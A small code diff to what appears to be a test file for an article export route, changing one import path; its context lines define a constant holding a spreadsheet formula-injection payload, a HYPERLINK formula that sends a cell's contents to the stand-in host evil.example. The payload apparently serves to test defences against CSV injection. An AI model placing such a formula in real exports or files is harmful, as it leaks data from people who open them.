@@ -9,7 +9,7 @@ import { FIXTURE_ARTICLES, makeArticle } from '../../../lib/api/testing/articles
 import { setUpApiEnv, type ApiTestEnv } from '../../../lib/api/testing/api-server';
 import { createMeiliClient } from '../../../lib/meili/client';
 import { testMeili } from '../../../lib/testing/meili-fixture';
-import { sendResponse } from '../../../indexer/server/send-response';
+import { sendResponse } from '../../../server/send-response';
 import * as exportRoute from './export/route';
 
 const EVIL_TITLE = '=HYPERLINK("http://evil.example/?d="&A1,"click"), then';
